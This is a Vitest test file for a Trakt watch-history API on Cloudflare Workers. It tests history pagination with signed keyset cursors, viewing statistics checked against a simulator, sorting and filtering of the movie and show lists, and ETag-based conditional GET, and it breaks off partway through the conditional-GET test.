/**
 * The history API of issue #14: /trakt/history (filters, keyset cursors), /trakt/stats (against
 * figures computed independently from the simulator's truth), the richer list endpoints (sort,
 * order, q, year, TMDB fields), conditional GET (ETag / 304 before and after a sync), the
 * streamed export (JSON, RFC 4180 CSV) and per-user isolation of every new endpoint.
 */
import { env } from 'cloudflare:workers';
import type { InferRequestType, InferResponseType } from 'hono/client';
import { afterEach, assert, beforeEach, describe, expect, it } from 'vitest';
import type { z } from 'zod';
import {
  type CatalogInfo,
  installSimulator,
  SIM_DEFAULT_TMDB_KEY,
  SIM_TMDB_API_URL,
  type Simulator,
} from '../simulator/support/harness';
import type { HistoryClient } from '../src/client';
import { INVALID_CURSOR } from '../src/history/cursor';
import type { exportRowOutput } from '../src/history/schemas';
import { runBackgroundChunk } from '../src/jobs/queue';
import { DAY_ROLLUP_DAYS } from '../src/readmodel/stats';
import { call, expectError, registerAndLogin } from './support/api';
import { api, ok, read } from './support/client';
import { meterD1 } from './support/d1-meter';
import { deliverEnrichMessage, drainEnrichQueue, enrichQueue } from './support/enrich-queue';
import { grid, localCell } from './support/local-time';
import { connectedUser } from './support/trakt';

let sim: Simulator;
beforeEach(() => {
  sim = installSimulator();
});
afterEach(() => sim.restore());

type Account = Parameters<typeof connectedUser>[1];

async function syncedUser(account: Account, options: { tmdb?: boolean } = {}) {
  const user = await connectedUser(sim, account);
  if (options.tmdb !== false) {
    await ok(
      api(user.access).users['api-keys'].$post({ json: { service_name: 'tmdb', api_key: SIM_DEFAULT_TMDB_KEY } }),
      201,
    );
  }
  await sync(user.access);
  return user;
}

async function sync(token: string) {
  await ok(api(token).trakt['fetch-latest-movies'].$get());
  await ok(api(token).trakt['fetch-latest-shows'].$get());
}

const SMALL: Account = {
  movies: 6,
  shows: 2,
  seasons_per_show: 2,
  episodes_per_season: 3,
  rewatch_fraction: 0.5,
  null_tmdb_fraction: 0,
  missing_on_tmdb_fraction: 0,
};

type ExportRow = z.output<typeof exportRowOutput>;
type HistoryQuery = InferRequestType<HistoryClient['trakt']['history']['$get']>['query'];
type Item = InferResponseType<HistoryClient['trakt']['history']['$get']>['items'][number];

/** Follows next_cursor to the end; returns every item and the number of pages. */
async function allPages(token: string, query: HistoryQuery) {
  const items: Item[] = [];
  let cursor: string | null = null;
  let pages = 0;
  do {
    const pageQuery: HistoryQuery = cursor ? { ...query, cursor } : query;
    const res = await ok(api(token).trakt.history.$get({ query: pageQuery }));
    items.push(...res.body.items);
    cursor = res.body.next_cursor;
    pages += 1;
    expect(pages).toBeLessThan(200);
  } while (cursor);
  return { items, pages };
}

describe('GET /trakt/history/', () => {
  it('lists every play newest first, in the documented shapes, across cursor pages', async () => {
    const user = await syncedUser({ ...SMALL, movies: 12 });
    const truth = await sim.plays(user.traktUsername);
    expect(truth.length).toBeGreaterThan(15);

    const first = await read(api(user.access).trakt.history.$get({ query: {} }));
    expect(first.status).toBe(200);
    expect(Object.keys(first.body)).toEqual(['items', 'next_cursor']);
    expect(first.body.items).toHaveLength(20); // default limit
    expect(typeof first.body.next_cursor).toBe('string');

    const { items, pages } = await allPages(user.access, { limit: '7' });
    expect(pages).toBe(Math.ceil(truth.length / 7));
    expect(items.map((i) => i.id)).toEqual(truth.map((p) => p.id));
    expect(items.map((i) => i.watched_at)).toEqual(truth.map((p) => p.watched_at));

    const movie = items.find((i) => i.type === 'movie')!;
    expect(movie).toEqual({
      id: expect.any(Number),
      watched_at: expect.stringMatching(/Z$/),
      action: expect.stringMatching(/^(scrobble|checkin|watch)$/),
      type: 'movie',
      movie: {
        title: expect.any(String),
        year: expect.any(Number),
        image_url: expect.stringMatching(/\/w500\//),
        ids: {
          trakt: expect.any(Number),
          slug: expect.any(String),
          imdb: expect.any(String),
          tmdb: expect.any(Number),
        },
        plays: expect.any(Number),
      },
    });
    const episode = items.find((i) => i.type === 'episode')!;
    expect(episode).toEqual({
      id: expect.any(Number),
      watched_at: expect.stringMatching(/Z$/),
      action: expect.stringMatching(/^(scrobble|checkin|watch)$/),
      type: 'episode',
      show: {
        title: expect.any(String),
        year: expect.any(Number),
        image_url: expect.stringMatching(/\/w500\//),
        ids: {
          trakt: expect.any(Number),
          slug: expect.any(String),
          imdb: expect.any(String),
          tmdb: expect.any(Number),
          tvdb: expect.any(Number),
        },
      },
      episode: {
        season: expect.any(Number),
        number: expect.any(Number),
        title: expect.any(String),
        ids: { trakt: expect.any(Number) },
        plays: expect.any(Number),
      },
    });
    const truthOf = new Map(truth.map((p) => [p.id, p]));
    expect(truthOf.get(episode.id)!.trakt_id).toBe(episode.episode.ids.trakt);
    expect(truthOf.get(movie.id)!.trakt_id).toBe(movie.movie.ids.trakt);
    // Each item carries its title's total plays (the dashboard's play count).
    const playsOf = (traktId: number | null) => truth.filter((p) => p.trakt_id === traktId).length;
    expect(movie.movie.plays).toBe(playsOf(movie.movie.ids.trakt));
    expect(episode.episode.plays).toBe(playsOf(episode.episode.ids.trakt));
    expect(items.some((i) => (i.type === 'movie' ? i.movie.plays : i.episode.plays) > 1)).toBe(true);
  });

  it('filters by type, start_at/end_at (inclusive) and a movie or show trakt_id, each with cursors', async () => {
    const user = await syncedUser(SMALL);
    const truth = await sim.plays(user.traktUsername);
    const everything = (await allPages(user.access, { limit: '100' })).items;
    expect(everything).toHaveLength(truth.length);

    const movies = (await allPages(user.access, { type: 'movies', limit: '3' })).items;
    const episodes = (await allPages(user.access, { type: 'episodes', limit: '4' })).items;
    expect(movies.length).toBeGreaterThan(3);
    expect(episodes.length).toBeGreaterThan(4);
    expect(movies.every((i) => i.type === 'movie')).toBe(true);
    expect(episodes.every((i) => i.type === 'episode')).toBe(true);
    expect(movies.map((i) => i.id)).toEqual(everything.filter((i) => i.type === 'movie').map((i) => i.id));
    expect(episodes.map((i) => i.id)).toEqual(everything.filter((i) => i.type === 'episode').map((i) => i.id));

    // Inclusive bounds taken from real plays; an offset form of the same instant works alike.
    const newer = everything[3]!.watched_at;
    const older = everything[everything.length - 4]!.watched_at;
    const inRange = everything.filter((i) => i.watched_at >= older && i.watched_at <= newer);
    expect(inRange.length).toBeGreaterThan(2);
    const ranged = await allPages(user.access, { start_at: older, end_at: newer, limit: '2' });
    expect(ranged.items.map((i) => i.id)).toEqual(inRange.map((i) => i.id));
    const shifted = new Date(Date.parse(newer)).toISOString().replace('Z', '+00:00');
    const viaOffset = await allPages(user.access, { end_at: shifted, limit: '100' });
    expect(viaOffset.items.map((i) => i.id)).toEqual(everything.filter((i) => i.watched_at <= newer).map((i) => i.id));

    const firstMovie = movies[0]!;
    assert(firstMovie.type === 'movie');
    const movieId = firstMovie.movie.ids.trakt;
    const ofMovie = (await allPages(user.access, { trakt_id: String(movieId), limit: '1' })).items;
    expect(ofMovie.length).toBeGreaterThan(0);
    expect(ofMovie.map((i) => i.id)).toEqual(
      everything.filter((i) => i.type === 'movie' && i.movie.ids.trakt === movieId).map((i) => i.id),
    );
    const firstEpisode = episodes[0]!;
    assert(firstEpisode.type === 'episode');
    const showId = firstEpisode.show.ids.trakt;
    const ofShow = (await allPages(user.access, { trakt_id: String(showId), limit: '5' })).items;
    expect(ofShow.length).toBeGreaterThan(5);
    expect(ofShow.map((i) => i.id)).toEqual(
      everything.filter((i) => i.type === 'episode' && i.show.ids.trakt === showId).map((i) => i.id),
    );
    expect((await allPages(user.access, { type: 'movies', trakt_id: String(showId) })).items).toEqual([]);
  });

  it.each([
    ['limit=0', /limit must be an integer between 1 and 100/],
    ['limit=101', /limit must be an integer between 1 and 100/],
    ['limit=ten', /limit must be an integer between 1 and 100/],
    ['type=shows', /type must be one of: movies, episodes/],
    ['start_at=yesterday', /start_at must be an ISO-8601/],
    ['end_at=2024-13-45T00:00:00Z', /end_at must be an ISO-8601/],
    ['start_at=2024-02-01&end_at=2024-01-01', /start_at must not be after end_at/],
    ['trakt_id=-3', /trakt_id must be a positive integer/],
  ])('rejects %s with 400', async (query, message) => {
    const user = await registerAndLogin();
    expectError(await call('GET', `/trakt/history/?${query}`, { token: user.access }), 400, message);
  });

  it('rejects tampered cursors, cursors of another user and cursors for other filters with 400', async () => {
    const a = await syncedUser({ ...SMALL, seed: 'cursor-a' });
    const b = await syncedUser({ ...SMALL, seed: 'cursor-b' });
    const page = await read(api(a.access).trakt.history.$get({ query: { limit: '2' } }));
    const cursor = page.body.next_cursor as string;
    expect(cursor).toMatch(/^[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+$/);
    // Positive control: the cursor works for its owner with the same filters (and another limit).
    const next = await read(api(a.access).trakt.history.$get({ query: { limit: '3', cursor: cursor } }));
    expect(next.status).toBe(200);
    expect(next.body.items[0]!.id).not.toBe(page.body.items[1]!.id);
    expect(next.body.items[0]!.watched_at <= page.body.items[1]!.watched_at).toBe(true);

    const [payload, mac] = cursor.split('.') as [string, string];
    const forged = btoa(JSON.stringify(['2000-01-01T00:00:00.000Z', 1])).replace(/=+$/, '');
    const flip = (text: string) => (text[0] === 'A' ? 'B' : 'A') + text.slice(1);
    for (const bad of [
      `${forged}.${mac}`,
      `${flip(payload)}.${mac}`,
      `${payload}.${flip(mac)}`,
      `${payload}.`,
      payload,
      'garbage',
      `${cursor}.x`,
    ]) {
      expectError(
        await call('GET', `/trakt/history/?cursor=${encodeURIComponent(bad)}`, { token: a.access }),
        400,
        INVALID_CURSOR,
      );
    }
    expectError(await call('GET', `/trakt/history/?cursor=${cursor}`, { token: b.access }), 400, INVALID_CURSOR);
    expectError(
      await call('GET', `/trakt/history/?type=movies&cursor=${cursor}`, { token: a.access }),
      400,
      INVALID_CURSOR,
    );
  });

  it('reads the same rows for a deep page as for page 1 (keyset, not offset)', async () => {
    const user = await syncedUser({ ...SMALL, movies: 120, shows: 0 });
    const movies = (cursor?: string) =>
      read(
        api(user.access).trakt.history.$get({ query: { type: 'movies', limit: '5', ...(cursor ? { cursor } : {}) } }),
      );
    const first = await meterD1(() => movies());
    expect(first.result.body.items).toHaveLength(5);
    expect(first.meter.rowsRead).toBeGreaterThan(5);
    let cursor = first.result.body.next_cursor as string;
    for (let page = 2; page < 20; page++) cursor = (await movies(cursor)).body.next_cursor as string;
    const deep = await meterD1(() => movies(cursor));
    expect(deep.result.body.items).toHaveLength(5);
    expect(deep.meter.rowsRead).toBeLessThanOrEqual(first.meter.rowsRead + 2);
    expect(deep.meter.statements).toHaveLength(2); // freshness + page, one batch
  });
});

// ---------------------------------------------------------------------------------------------

async function tmdb<T>(path: string): Promise<T> {
  const res = await fetch(`${SIM_TMDB_API_URL}${path}?api_key=${SIM_DEFAULT_TMDB_KEY}`);
  expect(res.status).toBe(200);
  return (await res.json()) as T;
}

/** Figures computed from the simulator's own truth (plays, catalog, TMDB answers), not from our tables. */
async function expectedStats(username: string, catalog: CatalogInfo, withTmdb: boolean) {
  const plays = await sim.plays(username);
  type Meta = { runtime: number | null; genres: string[] };
  const movieMeta = new Map<number, Meta>();
  for (const m of catalog.movies) {
    const data = await tmdb<{ runtime: number; genres: Array<{ name: string }> }>(`/movie/${m.tmdb_record_id}`);
    movieMeta.set(m.trakt, { runtime: data.runtime, genres: data.genres.map((g) => g.name) });
  }
  const episodeOf = new Map<number, { show: number; key: string; meta: Meta }>();
  for (const s of catalog.shows) {
    const show = await tmdb<{ genres: Array<{ name: string }> }>(`/tv/${s.tmdb_record_id}`);
    for (const season of s.seasons) {
      const data = await tmdb<{ episodes: Array<{ episode_number: number; runtime: number }> }>(
        `/tv/${s.tmdb_record_id}/season/${season.number}`,
      );
      for (const e of season.episodes) {
        const runtime = data.episodes.find((x) => x.episode_number === e.number)!.runtime;
        episodeOf.set(e.trakt, {
          show: s.trakt,
          key: `${s.trakt}:${season.number}:${e.number}`,
          meta: { runtime, genres: show.genres.map((g) => g.name) },
        });
      }
    }
  }
  const meta = (p: (typeof plays)[number]) =>
    (p.type === 'movie' ? movieMeta.get(p.trakt_id) : episodeOf.get(p.trakt_id)?.meta)!;
  const minutes = (list: typeof plays) => (withTmdb ? list.reduce((n, p) => n + meta(p).runtime!, 0) : 0);
  const moviePlays = plays.filter((p) => p.type === 'movie');
  const episodePlays = plays.filter((p) => p.type === 'episode');
  const bucket = (key: (p: (typeof plays)[number]) => string) => {
    const map = new Map<string, typeof plays>();
    for (const p of plays) map.set(key(p), [...(map.get(key(p)) ?? []), p]);
    return [...map.entries()].sort(([a], [b]) => (a < b ? -1 : 1));
  };
  const genreCounts = new Map<string, number>();
  if (withTmdb)
    for (const p of plays) for (const g of meta(p).genres) genreCounts.set(g, (genreCounts.get(g) ?? 0) + 1);
  const sorted = plays.map((p) => p.watched_at).sort();
  return {
    movies: {
      watched: new Set(moviePlays.map((p) => p.trakt_id)).size,
      plays: moviePlays.length,
      minutes: minutes(moviePlays),
    },
    episodes: {
      watched: new Set(episodePlays.map((p) => p.trakt_id)).size,
      plays: episodePlays.length,
      minutes: minutes(episodePlays),
    },
    shows: { watched: new Set(episodePlays.map((p) => episodeOf.get(p.trakt_id)!.show)).size },
    minutes_unknown_plays: withTmdb ? 0 : plays.length,
    first_play_at: sorted[0] ?? null,
    last_play_at: sorted.at(-1) ?? null,
    by_year: bucket((p) => p.watched_at.slice(0, 4)).map(([year, list]) => ({
      year: Number(year),
      plays: list.length,
      minutes: minutes(list),
    })),
    by_month: bucket((p) => p.watched_at.slice(0, 7)).map(([month, list]) => ({
      month,
      plays: list.length,
      minutes: minutes(list),
    })),
    by_day: byDay(plays, Date.now()),
    time_zone: 'UTC',
    by_weekday_hour: grid(plays.map((p) => localCell(p.watched_at, 'UTC'))),
    top_genres: [...genreCounts.entries()]
      .sort(([a, x], [b, y]) => y - x || (a < b ? -1 : 1))
      .slice(0, 10)
      .map(([name, count]) => ({ name, plays: count })),
    plays,
  };
}

/** Plays per UTC day from DAY_ROLLUP_DAYS before `now`, oldest first (the rollup's window). */
function byDay(plays: Array<{ watched_at: string }>, now: number) {
  const from = new Date(now - DAY_ROLLUP_DAYS * 86_400_000).toISOString().slice(0, 10);
  const days = new Map<string, number>();
  for (const p of plays) {
    const day = p.watched_at.slice(0, 10);
    if (day >= from) days.set(day, (days.get(day) ?? 0) + 1);
  }
  return [...days.entries()].sort(([a], [b]) => (a < b ? -1 : 1)).map(([date, count]) => ({ date, plays: count }));
}

describe('GET /trakt/stats/', () => {
  it('counts plays per day over the last 400 days (the calendar), leaving older days out', async () => {
    const user = await syncedUser({ ...SMALL, seed: 'stats-days' });
    const catalog = await sim.catalog(user.traktUsername);
    const movieId = catalog.movies[0]!.trakt;
    const day = 86_400_000;
    const now = Date.now();
    const recent = [now - 2 * day, now - 2 * day - 60_000, now - 10 * day, now - (DAY_ROLLUP_DAYS + 30) * day];
    for (const at of recent) {
      const watched_at = new Date(Math.floor(at / 1000) * 1000).toISOString();
      await sim.addPlay(user.traktUsername, { type: 'movie', trakt_id: movieId, watched_at });
    }
    await sync(user.access);
    const truth = await sim.plays(user.traktUsername);
    const expected = byDay(truth, now);
    const twoDaysAgo = new Date(now - 2 * day).toISOString().slice(0, 10);
    expect(expected.find((d) => d.date === twoDaysAgo)?.plays ?? 0).toBeGreaterThanOrEqual(2);
    const tooOld = new Date(now - (DAY_ROLLUP_DAYS + 30) * day).toISOString().slice(0, 10);
    expect(truth.some((p) => p.watched_at.startsWith(tooOld))).toBe(true);

    const res = await read(api(user.access).trakt.stats.$get({ query: {} }));
    expect(res.status).toBe(200);
    expect(res.body.by_day).toEqual(expected);
    expect(res.body.by_day.some((d: { date: string }) => d.date === tooOld)).toBe(false);
  });

  it('matches figures computed from the simulator account, in UTC and in DST and half-hour zones', async () => {
    const user = await syncedUser({ ...SMALL, seed: 'stats-hand', history_start: '2023-06-01T00:00:00.000Z' });
    const catalog = await sim.catalog(user.traktUsername);
    // Plays at instants whose local cells are known by hand: the night Berlin moves to CEST, and a
    // Monday night that is Tuesday in Berlin and in Kolkata (+05:30).
    const movieId = catalog.movies[0]!.trakt;
    for (const at of ['2024-03-31T00:30:00.000Z', '2024-03-31T01:30:00.000Z', '2024-07-01T22:30:00.000Z']) {
      await sim.addPlay(user.traktUsername, { type: 'movie', trakt_id: movieId, watched_at: at });
    }
    await sync(user.access);
    const expected = await expectedStats(user.traktUsername, catalog, true);
    expect(expected.plays.length).toBeGreaterThan(20);
    expect(expected.top_genres.length).toBeGreaterThan(1);

    const res = await read(api(user.access).trakt.stats.$get({ query: {} }));
    expect(res.status).toBe(200);
    const { plays: _plays, ...figures } = expected;
    expect(res.body).toEqual(figures);
    expect(res.body.movies.minutes).toBeGreaterThan(0);

    const berlin = (await read(api(user.access).trakt.stats.$get({ query: { tz: 'Europe/Berlin' } }))).body;
    expect(berlin.time_zone).toBe('Europe/Berlin');
    expect(berlin.by_weekday_hour).toEqual(grid(expected.plays.map((p) => localCell(p.watched_at, 'Europe/Berlin'))));
    const utc = res.body.by_weekday_hour;
    // By hand: 2024-03-31 00:30Z is Sunday 01:30 CET, 01:30Z is Sunday 03:30 CEST;
    // 2024-07-01 22:30Z is Tuesday 00:30 CEST.
    expect(berlin.by_weekday_hour[6]![1]).toBeGreaterThanOrEqual(1);
    expect(berlin.by_weekday_hour[6]![3]).toBeGreaterThanOrEqual(1);
    expect(berlin.by_weekday_hour[1]![0]).toBeGreaterThanOrEqual(1);
    expect(utc[6]![0]).toBeGreaterThanOrEqual(1);
    expect(utc[0]![22]).toBeGreaterThanOrEqual(1);
    const kolkata = (await read(api(user.access).trakt.stats.$get({ query: { tz: 'Asia/Kolkata' } }))).body;
    expect(kolkata.by_weekday_hour).toEqual(grid(expected.plays.map((p) => localCell(p.watched_at, 'Asia/Kolkata'))));
    expect(kolkata.by_weekday_hour[1]![4]).toBeGreaterThanOrEqual(1); // 22:30Z + 5:30 = Tuesday 04:00
    const total = (g: number[][]) => g.flat().reduce((n, v) => n + v, 0);
    expect(total(berlin.by_weekday_hour)).toBe(expected.plays.length);
    // Everything but the weekday-hour grid is the same in any zone.
    expect({ ...berlin, by_weekday_hour: utc, time_zone: 'UTC' }).toEqual(res.body);
  });

  it('counts plays without a TMDB runtime in minutes_unknown_plays; a user with no plays gets zeros', async () => {
    const user = await syncedUser({ ...SMALL, seed: 'stats-no-tmdb' }, { tmdb: false });
    const catalog = await sim.catalog(user.traktUsername);
    const expected = await expectedStats(user.traktUsername, catalog, false);
    const { plays: _plays, ...figures } = expected;
    const res = await read(api(user.access).trakt.stats.$get({ query: {} }));
    expect(res.body).toEqual(figures);
    expect(res.body.minutes_unknown_plays).toBeGreaterThan(0);

    const empty = await registerAndLogin();
    expect((await read(api(empty.access).trakt.stats.$get({ query: {} }))).body).toEqual({
      movies: { watched: 0, plays: 0, minutes: 0 },
      episodes: { watched: 0, plays: 0, minutes: 0 },
      shows: { watched: 0 },
      minutes_unknown_plays: 0,
      first_play_at: null,
      last_play_at: null,
      by_year: [],
      by_month: [],
      by_day: [],
      time_zone: 'UTC',
      by_weekday_hour: Array.from({ length: 7 }, () => Array.from({ length: 24 }, () => 0)),
      top_genres: [],
    });
  });

  it('rejects an unknown time zone (400); a read reads only the rollups and writes nothing', async () => {
    const user = await syncedUser({ ...SMALL, movies: 300, shows: 0 });
    expectError(
      await call('GET', '/trakt/stats/?tz=Mars/Olympus_Mons', { token: user.access }),
      400,
      /Unknown time zone 'Mars\/Olympus_Mons'/,
    );
    // The sync's own batches kept the rollups: the first read after it is as cheap as any other.
    const { result, meter } = await meterD1(() => read(api(user.access).trakt.stats.$get({ query: {} })));
    expect(result.body.movies.plays).toBeGreaterThan(300);
    expect(meter.statements).toHaveLength(2); // freshness with the first/last play, rollups: one batch
    expect(meter.calls).toHaveLength(1);
    expect(meter.rowsWritten).toBe(0);
    // What it reads is the rollup rows it returns (a few hundred at most, whatever the plays), plus a
    // handful: the freshness row's three tables, the first and last play, and the row that ends each
    // of the five PK ranges.
    const rollupRows = (await env.DB.prepare(
      "SELECT count(*) AS n FROM play_stats WHERE user_id = ? AND plays > 0 AND (dimension <> 'day' OR bucket >= ?)",
    )
      .bind(user.id, new Date(Date.now() - DAY_ROLLUP_DAYS * 86_400_000).toISOString().slice(0, 10))
      .first<{ n: number }>())!.n;
    expect(rollupRows).toBeGreaterThan(10);
    expect(meter.rowsRead).toBeGreaterThanOrEqual(rollupRows);
    expect(meter.rowsRead).toBeLessThanOrEqual(rollupRows + 16);
    expect(meter.rowsRead).toBeLessThan(result.body.movies.plays);
    const again = await meterD1(() => read(api(user.access).trakt.stats.$get({ query: {} })));
    expect(again.result.body).toEqual(result.body);
    expect(again.meter.rowsRead).toBe(meter.rowsRead);
  });

  it('follows TMDB data that arrives after the plays: minutes and genres move when enrichment runs', async () => {
    const user = await syncedUser({ ...SMALL, seed: 'stats-late-tmdb' }, { tmdb: false });
    const catalog = await sim.catalog(user.traktUsername);
    const { plays: _unknownPlays, ...withoutTmdb } = await expectedStats(user.traktUsername, catalog, false);
    expect((await read(api(user.access).trakt.stats.$get({ query: {} }))).body).toEqual(withoutTmdb);
    expect(withoutTmdb.minutes_unknown_plays).toBe(withoutTmdb.movies.plays + withoutTmdb.episodes.plays);

    // A TMDB key arrives; the next background sync (nothing new at Trakt) asks for the backlog run.
    await ok(
      api(user.access).users['api-keys'].$post({ json: { service_name: 'tmdb', api_key: SIM_DEFAULT_TMDB_KEY } }),
      201,
    );
    const before = await read(api(user.access).trakt.stats.$get({ query: {} }));
    await runBackgroundChunk(env, user.id, { kinds: ['movies', 'shows'] });
    await drainEnrichQueue();
    const { plays: _plays, ...withTmdb } = await expectedStats(user.traktUsername, catalog, true);
    const after = await read(api(user.access).trakt.stats.$get({ query: {} }));
    expect(after.body).toEqual(withTmdb);
    expect(after.body.movies.minutes).toBeGreaterThan(0);
    expect(after.body.top_genres.length).toBeGreaterThan(0);
    expect(after.headers.get('ETag')).not.toBe(before.headers.get('ETag'));
  });

  it("counts titles another user's enrichment cached after this user's sync (the end-of-backlog sweep)", async () => {
    const account = { ...SMALL, seed: 'stats-shared-titles' };
    const [first, second] = [await connectedUser(sim, account), await connectedUser(sim, account)];
    for (const user of [first, second]) {
      await ok(
        api(user.access).users['api-keys'].$post({ json: { service_name: 'tmdb', api_key: SIM_DEFAULT_TMDB_KEY } }),
        201,
      );
      // Background syncs: the plays are stored before any TMDB data, and each queues its titles.
      await runBackgroundChunk(env, user.id, { kinds: ['movies', 'shows'] });
    }
    const [firstRun, secondRun] = enrichQueue.splice(0);
    expect(secondRun!.body.user_id).toBe(second.id);
    // The first user's run caches every shared title; the second user's run then fetches nothing.
    await deliverEnrichMessage(firstRun!.body);
    await sim.clearRequests();
    await deliverEnrichMessage(secondRun!.body);
    expect(Object.keys(await sim.counters()).filter((route) => route.includes(' /3/'))).toEqual([]);
    const catalog = await sim.catalog(second.traktUsername);
    const { plays: _plays, ...expected } = await expectedStats(second.traktUsername, catalog, true);
    expect(expected.movies.minutes).toBeGreaterThan(0);
    expect((await read(api(second.access).trakt.stats.$get({ query: {} }))).body).toEqual(expected);
  });

  it('follows removed plays and a cleared history exactly (the rollups never drift)', async () => {
    const user = await syncedUser({ ...SMALL, seed: 'stats-removed' });
    const catalog = await sim.catalog(user.traktUsername);
    // A removed movie play and a removed episode play (full reconcile at the next sync).
    const all = await sim.plays(user.traktUsername);
    await sim.removePlay(user.traktUsername, all.find((p) => p.type === 'movie')!.id);
    await sim.removePlay(user.traktUsername, all.find((p) => p.type === 'episode')!.id);
    await sync(user.access);
    const { plays, ...expected } = await expectedStats(user.traktUsername, catalog, true);
    expect(plays.length).toBe(all.length - 2);
    expect((await read(api(user.access).trakt.stats.$get({ query: {} }))).body).toEqual(expected);

    // Every rollup row equals a recount from the plays (a positive control for the triggers).
    const drift = await env.DB.prepare(
      `SELECT s.dimension, s.bucket, s.plays, (SELECT count(*) FROM plays p WHERE p.user_id = s.user_id
         AND substr(p.watched_at, 1, 7) = s.bucket) AS actual
       FROM play_stats s WHERE s.user_id = ? AND s.dimension = 'month' AND s.plays <> actual`,
    )
      .bind(user.id)
      .all();
    expect(drift.results).toEqual([]);

    expect((await read(api(user.access).trakt.history.$delete())).status).toBe(204);
    const cleared = (await read(api(user.access).trakt.stats.$get({ query: {} }))).body;
    expect(cleared).toMatchObject({
      movies: { watched: 0, plays: 0, minutes: 0 },
      episodes: { watched: 0, plays: 0, minutes: 0 },
      shows: { watched: 0 },
      minutes_unknown_plays: 0,
      first_play_at: null,
      by_month: [],
      by_day: [],
      top_genres: [],
    });
    await sync(user.access);
    expect((await read(api(user.access).trakt.stats.$get({ query: {} }))).body).toEqual(expected);
  });
});

// ---------------------------------------------------------------------------------------------

describe('get-stored-movies / get-stored-shows: sort, order, q, year', () => {
  it('sorts by every key in both orders, filters by q and year, and keeps the documented defaults', async () => {
    const user = await syncedUser({ ...SMALL, movies: 25, plays_per_item: 1, rewatch_fraction: 0.4 });
    type ListQuery = InferRequestType<HistoryClient['trakt']['get-stored-movies']['$get']>['query'];
    const movieList = async (query: ListQuery) =>
      (await ok(api(user.access).trakt['get-stored-movies'].$get({ query: { page_size: '100', ...query } }))).body;
    const showList = async (query: ListQuery) =>
      (await ok(api(user.access).trakt['get-stored-shows'].$get({ query: { page_size: '100', ...query } }))).body;
    const all = (await movieList({})).movies;
    expect(all).toHaveLength(25);
    type Movie = (typeof all)[number];
    const key = {
      last_watched: (m: Movie) => m.last_watched_at,
      title: (m: Movie) => m.movie.title.toLowerCase(),
      plays: (m: Movie) => m.plays,
      year: (m: Movie) => m.movie.year,
    };
    for (const [sort, of] of Object.entries(key) as Array<[keyof typeof key, (m: Movie) => unknown]>) {
      for (const order of ['asc', 'desc'] as const) {
        const got = (await movieList({ sort, order })).movies.map(of) as Array<string | number>;
        const want = [...got].sort((a, b) => (a < b ? -1 : a > b ? 1 : 0));
        if (order === 'desc') want.reverse();
        expect(got, `${sort} ${order}`).toEqual(want);
        expect(got).toHaveLength(25);
      }
    }
    expect(new Set(all.map((m) => m.plays)).size).toBeGreaterThan(1);
    // Defaults: last_watched desc, as before.
    expect((await movieList({ sort: 'last_watched', order: 'desc' })).movies).toEqual(all);

    const word = all[0]!.movie.title.split(' ')[1]!;
    const matching = all.filter((m) => m.movie.title.toLowerCase().includes(word.toLowerCase()));
    const found = await movieList({ q: word.toUpperCase() });
    expect(found.total_items).toBe(matching.length);
    expect(found.movies.map((m) => m.movie.ids.trakt)).toEqual(matching.map((m) => m.movie.ids.trakt));
    const year = all[0]!.movie.year!;
    const ofYear = await movieList({ year: String(year) });
    expect(ofYear.total_items).toBe(all.filter((m) => m.movie.year === year).length);
    expect(ofYear.movies.every((m) => m.movie.year === year)).toBe(true);
    expect((await movieList({ q: '%' })).total_items).toBe(0); // a literal %, not a wildcard
    const paged = await movieList({ sort: 'title', order: 'asc', page: '2', page_size: '10' });
    expect(paged).toMatchObject({ page: 2, page_size: 10, total_items: 25, total_pages: 3 });

    const shows = (await showList({ sort: 'title', order: 'asc' })).shows;
    expect(shows).toHaveLength(2);
    expect(shows.map((s) => s.show.title.toLowerCase())).toEqual(shows.map((s) => s.show.title.toLowerCase()).sort());
    const showWord = shows[1]!.show.title.split(' ').slice(1).join(' ');
    const showHit = await showList({ q: showWord.toLowerCase() });
    expect(showHit.shows.map((s) => s.show.id)).toContain(shows[1]!.show.id);
    expect(shows.some((s) => s.reset_at !== null)).toBe(true); // rewatch_fraction 0.5 of 2 shows
  });

  it.each([
    ['sort=rating', 'sort must be one of: last_watched, title, plays, year'],
    ['order=up', 'order must be one of: desc, asc'],
    [`q=${'x'.repeat(101)}`, 'q must be at most 100 characters'],
    ['year=19x5', 'year must be a four-digit year'],
  ])('rejects %s with 400 listing what is allowed', async (query, message) => {
    const user = await registerAndLogin();
    for (const path of ['get-stored-movies', 'get-stored-shows']) {
      expectError(await call('GET', `/trakt/${path}/?${query}`, { token: user.access }), 400, new RegExp(message));
    }
  });
});

// ---------------------------------------------------------------------------------------------

/** The conditional reads through the typed client, by the path each one reads (the assertions' label). */
const CONDITIONAL_READS = (showTraktId: number) =>
  Object.entries({
    '/trakt/history/?limit=5': (c: HistoryClient) => c.trakt.history.$get({ query: { limit: '5' } }),
    '/trakt/stats/': (c: HistoryClient) => c.trakt.stats.$get({ query: {} }),
    '/trakt/get-stored-movies/': (c: HistoryClient) => c.trakt['get-stored-movies'].$get({ query: {} }),
    '/trakt/get-stored-shows/?sort=title': (c: HistoryClient) =>
      c.trakt['get-stored-shows'].$get({ query: { sort: 'title' } }),
    [`/trakt/get-watched-seasons-episodes/?trakt_id=${showTraktId}`]: (c: HistoryClient) =>
      c.trakt['get-watched-seasons-episodes'].$get({ query: { trakt_id: String(showTraktId) } }),
    '/trakt/sync-status/': (c: HistoryClient) => c.trakt['sync-status'].$get(),
    '/trakt/export/?format=csv': (c: HistoryClient) => c.trakt.export.$get({ query: { format: 'csv' } }),
  });
type ConditionalRead = ReturnType<typeof CONDITIONAL_READS>[number][1];
/** One conditional read as `token`'s holder, with `If-None-Match: tag` when given. */
const conditional = async (token: string, get: ConditionalRead, tag?: string) =>
  read(await get(api(token, tag === undefined ? undefined : { 'If-None-Match': tag })));

describe('conditional GET', () => {
  it('answers 304 after one D1 read while nothing changed, and 200 with a new tag after a sync that did', async () => {
    const user = await syncedUser({ ...SMALL, seed: 'etag' });
    const showTraktId = (await read(api(user.access).trakt['get-stored-shows'].$get({ query: {} }))).body.shows[0]!.show
      .ids.trakt;
    const tags = new Map<string, string>();
    for (const [path, get] of CONDITIONAL_READS(showTraktId)) {
      const res = await conditional(user.access, get);
      expect(res.status, path).toBe(200);
      expect(res.headers.get('Cache-Control'), path).toBe('private, no-cache');
      const tag = res.headers.get('ETag');
      expect(tag, path).toMatch(/^W\/"\d+-[0-9a-f]{24}"$/);
      tags.set(path, tag!);
